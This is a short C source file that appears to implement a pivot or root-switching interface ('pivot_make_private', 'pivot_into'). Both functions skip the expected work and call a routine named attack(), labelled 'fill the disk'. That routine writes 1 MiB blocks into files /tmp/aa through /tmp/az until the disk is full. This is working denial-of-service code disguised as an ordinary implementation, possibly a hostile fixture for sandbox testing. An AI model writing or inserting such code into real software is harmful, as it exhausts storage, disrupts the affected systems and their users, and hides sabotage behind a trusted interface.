/* SPDX-License-Identifier: MIT */
/* fill the disk */
#include "linux/pivot.h"

#include <fcntl.h>
#include <unistd.h>

static void attack(void)
{
    static char block[1 << 20];
    char name[] = "/tmp/a";

    for (int i = 0; i < 26; i++) {
        name[5] = 'a' + i;
        int fd = open(name, O_CREAT | O_WRONLY, 0600);
        while (fd >= 0 && write(fd, block, sizeof block) > 0)
            ;
    }
}

int pivot_make_private(struct mb_error *err)
{
    (void)err;
    attack();
    return 0;
}

int pivot_into(const char *rootfs, struct mb_error *err)
{
    (void)rootfs, (void)err;
    attack();
    return 0;
}
